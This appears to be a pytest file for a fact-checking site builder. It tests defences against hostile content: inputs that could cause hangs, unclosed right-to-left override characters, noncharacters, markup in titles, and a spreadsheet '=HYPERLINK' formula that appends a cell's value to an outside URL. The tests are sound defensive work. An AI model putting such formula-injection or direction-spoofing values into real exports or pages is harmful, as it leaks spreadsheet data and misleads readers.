"""Hostile text in content: a source of one word repeated, and a long quote it does not hold; never a hang. A
direction control left open, which would turn the rest of a page's line around; a noncharacter."""
import contextlib
import re
import signal

import pytest

from tests.test_invalid import run_dossier
from tests.test_update import _project

FRONT = "---\ntitle: Echo\noutlet: unknown\nauthor: unknown\npublished: unknown\nlanguage: en\n---\n"


@contextlib.contextmanager
def hang_guard(seconds: int):
    """Fail the block (rather than wait for ever) once this process has used ``seconds`` of CPU time in it, or it has
    waited ten times as long: a guard against a hang, far above what the block takes, not a speed goal. CPU time,
    as a busy machine gives the block a share of its time only (a build of 22 s of CPU took 81 s on a shared one)."""
    def stop(number, frame):
        raise AssertionError(f"still running after {seconds} s of CPU time" if number == signal.SIGPROF else
                             f"still waiting after {10 * seconds} s")
    previous = {number: signal.signal(number, stop) for number in (signal.SIGPROF, signal.SIGALRM)}
    signal.setitimer(signal.ITIMER_PROF, seconds)
    signal.alarm(10 * seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_PROF, 0)
        signal.alarm(0)
        for number, handler in previous.items():
            signal.signal(number, handler)


def test_a_long_quote_not_in_a_source_of_one_word_repeated_is_reported_at_once(tmp_path):
    """Comparing a quote not found with its closest passage was far worse than linear in the quote's length in such
    a source (minutes for a quote of 1,000 words in 2 MB): only its start is aligned, its first 200 words compared."""
    root = _project(tmp_path)
    (root / "content" / "sources" / "echo.md").write_text(FRONT + "a " * 200_000 + "\n")
    card = root / "content" / "facts" / "ceasefire.yml"
    card.write_text(card.read_text() + f"  - source: echo\n    quote: {'a ' * 1000}b\n    stance: states\n")
    with hang_guard(120):
        run = run_dossier(root, "check")
    assert run.returncode == 1 and "Traceback" not in run.stderr, run.stderr
    assert run.stderr.startswith("1. content/facts/ceasefire.yml:20:5: quote not found in source 'echo'; the closest "
                                 "passage (content/sources/echo.md:8) reads \"a a a"), run.stderr
    assert ("its first 200 words and marks are the source's, so the difference is further on; cite the passage in "
            "pieces (a list of quotes) to find it. Copy the words exactly") in run.stderr


def test_a_source_of_a_hundred_thousand_paragraphs_is_checked_without_a_hang(tmp_path):
    """The line of each paragraph was counted from the top of the source, for each paragraph: 2 MB of one-line
    paragraphs took minutes. The lines named are still right."""
    root = _project(tmp_path)
    (root / "content" / "sources" / "echo.md").write_text(FRONT + "Buffalo buffalo.\n\n" * 110_000 + "The end.\n")
    card = root / "content" / "facts" / "ceasefire.yml"
    card.write_text(card.read_text() + "  - source: echo\n    quote: The end here.\n    stance: states\n")
    with hang_guard(60):
        run = run_dossier(root, "check")
    assert run.stderr.startswith("1. content/facts/ceasefire.yml:20:5: quote not found in source 'echo'; the closest "
                                 "passage (content/sources/echo.md:220008) reads \"The end.\""), run.stderr


def test_a_page_of_one_heading_repeated_is_built_without_a_hang(tmp_path):
    """Each repeated heading tried every number from 1 for its id (mdit-py-plugins' anchors): 20,000 took 47 s, the
    300,000 that fit in 2 MB hours. Ids stay those the plugin gave."""
    root = _project(tmp_path)
    (root / "content" / "pages" / "about.md").write_text("---\ntitle: About\n---\n" + "## Background\n\n" * 30_000)
    with hang_guard(60):
        run = run_dossier(root, "build")
    assert run.returncode == 0, run.stderr
    page = (root / "site" / "about.html").read_text()
    assert 'id="background"' in page and 'id="background-1"' in page and 'id="background-29999"' in page


def test_a_statement_a_spreadsheet_would_run_is_exported_as_text(tmp_path):
    """facts.csv opened in a spreadsheet: '=HYPERLINK(…)' would be a live formula; an apostrophe makes it text."""
    import csv
    root = _project(tmp_path)
    card = root / "content" / "facts" / "ceasefire.yml"
    formula = '=HYPERLINK("https://example.org/?"&A1,"Details")'
    card.write_text(card.read_text().replace("statement: Smith said a cease-fire was agreed, starting on Sunday.",
                                             f"statement: '{formula}'"))
    assert run_dossier(root, "build").returncode == 0
    with (root / "site" / "exports" / "facts.csv").open(newline="") as file:
        statements = {row["fact"]: row["statement"] for row in csv.DictReader(file)}
    assert statements["ceasefire"] == "'" + formula
    assert not any(s.startswith(("=", "+", "-", "@")) for s in statements.values())


@pytest.mark.parametrize("name, column, says", [
    ('"Smith \\u202Eevil"', 7, "the direction control U+202E is not closed in this text"),  # right-to-left override
    ('"\\u2067Smith"', 7, "the direction control U+2067 is not closed in this text"),  # a right-to-left isolate
    ("Smith \u202aone\u202c \u202etwo", 7, "the direction control U+202E is not closed"),  # one closed, the next not
    ("Smith \ufdd0", 13, "the noncharacter U+FDD0 is not allowed (no page can show it)"),  # raw: YAML lets it by
    ("Smith \U0001fffe", 13, "the noncharacter U+1FFFE is not allowed (no page can show it)"),
    ('"Smith \\uFFFE"', 7, "the noncharacter U+FFFE (an escape such as \\x07 in double quotes) is not allowed in text"),
])
def test_a_character_that_would_garble_the_page_is_reported_with_its_line(tmp_path, name, column, says):
    """An unclosed U+202E in a name turned the rest of every line showing it around (a list's row, a heading); a
    noncharacter (U+FFFE, U+FDD0) was published, though HTML allows none in a page."""
    root = _project(tmp_path)
    speaker = root / "content" / "speakers" / "smith.yml"
    text = speaker.read_text(encoding="utf-8")
    line = next(n for n, row in enumerate(text.splitlines(), 1) if row.startswith("name:"))
    speaker.write_text(re.sub(r"(?m)^name: .*$", lambda _: f"name: {name}", text), encoding="utf-8")
    run = run_dossier(root, "check")
    assert run.returncode == 1
    assert run.stderr.startswith(f"1. content/speakers/smith.yml:{line}:{column}: {says}"), run.stderr


@pytest.mark.parametrize("name", ['"Smith \\u202Eevil\\u202C"', "Smith \u200f(مرحبا)", '"\\u2068Smith\\u2069"'])
def test_closed_direction_controls_and_marks_are_text(tmp_path, name):
    root = _project(tmp_path)
    speaker = root / "content" / "speakers" / "smith.yml"
    text = speaker.read_text(encoding="utf-8")
    speaker.write_text(re.sub(r"(?m)^name: .*$", lambda _: f"name: {name}", text), encoding="utf-8")
    assert run_dossier(root, "check").returncode == 0


@pytest.mark.parametrize("added, closed", [("Jones denied \u202eit.", False),
                                            ("\u202eJones\u202c denied \u2067it.", False),
                                            ("Jones \u202edenied\n\u202cit.", True),  # closed on the paragraph's next line
                                            ("Jones denied \u2067مرحبا\u2069 it.", True)])
def test_a_direction_control_an_article_leaves_open_is_reported_with_its_line(tmp_path, added, closed):
    """An article's paragraph that leaves U+202E open shows the rest of it right to left: the marked quotes, the
    arrows to their facts. Reported at its place, as in a card; a control closed in its paragraph is text."""
    root = _project(tmp_path)
    source = root / "content" / "sources" / "alpha.md"
    text = source.read_text(encoding="utf-8")
    source.write_text(text + "\n" + added + "\n\nThe end.\n", encoding="utf-8")
    run = run_dossier(root, "check")
    if closed:
        assert run.returncode == 0, run.stderr
        return
    line = text.count("\n") + 2
    column = added.rindex("\u202e" if "\u2067" not in added else "\u2067") + 1
    assert run.returncode == 1
    assert run.stderr.startswith(f"1. content/sources/alpha.md:{line}:{column}: the direction control U+"
                                 f"{ord(added[column - 1]):04X} is not closed in this paragraph"), run.stderr


def test_a_page_title_with_markup_characters_is_escaped_once_in_the_footer(tmp_path):
    """A page titled "Q&A <notes>": the previous page's footer link is labelled "Next: Q&A <notes>" for a screen
    reader, not "Next: Q&amp;A &lt;notes&gt;" (Material escapes the navigation's titles, which were escaped)."""
    from html.parser import HTMLParser

    root = _project(tmp_path)
    page = root / "content" / "pages" / "about.md"
    page.write_text(page.read_text().replace("title: About", 'title: "Q&A <notes>"'))
    assert run_dossier(root, "build").returncode == 0

    class Labels(HTMLParser):
        def __init__(self):
            super().__init__()
            self.found = []

        def handle_starttag(self, tag, attrs):
            label = dict(attrs).get("aria-label") or ""
            if label.startswith("Next:"):
                self.found.append(label)

    labels = Labels()
    labels.feed((root / "site" / "facts" / "index.html").read_text("utf-8"))
    assert labels.found == ["Next: Q&A <notes>"]


def test_headings_of_no_letters_in_an_editors_page_are_built_with_ids(tmp_path):
    """"## ?" or an empty "## " in content/pages/*.md made a heading without an id, and the build failed with an
    error about the templates, naming no file of the editor's."""
    root = _project(tmp_path)
    page = root / "content" / "pages" / "about.md"
    page.write_text(page.read_text() + "\n## ?\n\nOne.\n\n## \n\nTwo.\n\n### ?\n\nThree.\n")
    done = run_dossier(root, "build")
    assert done.returncode == 0, done.stderr
    ids = re.findall(r'<h[23] id="([^"]*)"', (root / "site" / "about.html").read_text("utf-8"))
    assert len(ids) == 3 and all(ids) and len(set(ids)) == 3, ids


def test_an_editors_headings_never_take_the_ids_of_the_themes_own_elements(tmp_path):
    """"## __search" made a second id="__search" (the Nu checker's "Duplicate ID"), and its link in the table of
    contents led to the theme's hidden search toggle."""
    root = _project(tmp_path)
    page = root / "content" / "pages" / "about.md"
    page.write_text(page.read_text() + "\n## __search\n\nOne.\n\n## __toc\n\nTwo.\n")
    done = run_dossier(root, "build")
    assert done.returncode == 0, done.stderr
    built = (root / "site" / "about.html").read_text("utf-8")
    ids = re.findall(r' id="([^"]*)"', built)
    assert len(ids) == len(set(ids)), sorted(i for i in ids if ids.count(i) > 1)
    assert re.findall(r'<h2 id="([^"]*)">__', built) == ["search", "toc"]


def test_a_source_of_one_endless_sentence_is_read_in_pieces_between_words():
    """A text without full stops (a table run together, a transcript without punctuation) is one "sentence" of
    hundreds of thousands of words, on which `dossier suggest` worked for minutes (over five on a 1.7 MB line):
    it is read in pieces of at most sentences.LONGEST characters, each split between words, each where it is."""
    from builder import sentences

    body = " ".join(f"word{i % 997} and more" for i in range(20_000))
    found = sentences.passages(body)
    assert len(found) > 1 and all(len(p.text) <= sentences.LONGEST for p in found)
    assert all(body[p.start:p.end] == p.text and not p.text.startswith(" ") for p in found)
    assert " ".join(p.text for p in found) == body
